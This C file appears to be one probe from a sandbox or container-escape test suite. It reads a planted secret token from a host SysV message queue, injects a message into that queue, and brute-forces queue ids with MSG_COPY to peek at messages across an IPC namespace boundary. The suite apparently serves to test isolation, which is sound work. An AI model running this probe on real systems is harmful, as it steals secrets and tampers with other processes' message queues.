// Host SysV message queues: the driver made a world-readable (0644) queue
// holding one message with the token. msgrcv/msgsnd take a queue id and
// pass natively; a container in its own IPC namespace could never name
// it. Try the given id, then guess ids. MSG_COPY would peek without taking.
#include <sys/ipc.h>
#include <sys/msg.h>

#include "attack.h"

struct msg {
  long mtype;
  char text[128];
};

int main(void) {
  announce();
  long id = host_num("ESC_MSG_ID");
  struct msg m;
  memset(&m, 0, sizeof m);
  long n = step("msgrcv_host_id", RAW5(SYS_msgrcv, id, &m, sizeof m.text - 1, 0, IPC_NOWAIT));
  if (n > 0) out("DATA msgrcv_host_id %.64s\n", m.text);
  m.mtype = 1;
  strcpy(m.text, "injected");
  step("msgsnd_host_id", RAW4(SYS_msgsnd, id, &m, 8, IPC_NOWAIT));
  long got = 0;
  for (long seq = 0; seq < 64; ++seq)
    for (long idx = 0; idx < 256; ++idx) {
      memset(&m, 0, sizeof m);
      // MSG_COPY (040000) | IPC_NOWAIT: copy message 0 without removing it.
      long r = RAW5(SYS_msgrcv, seq * 32768 + idx, &m, sizeof m.text - 1, 0, 040000 | IPC_NOWAIT);
      if (r > 0) {
        ++got;
        if (strncmp(m.text, "LBSECRET", 8) == 0) out("DATA msg_guess %.64s\n", m.text);
      }
    }
  step("msg_ids_copied", got);
  return done();
}
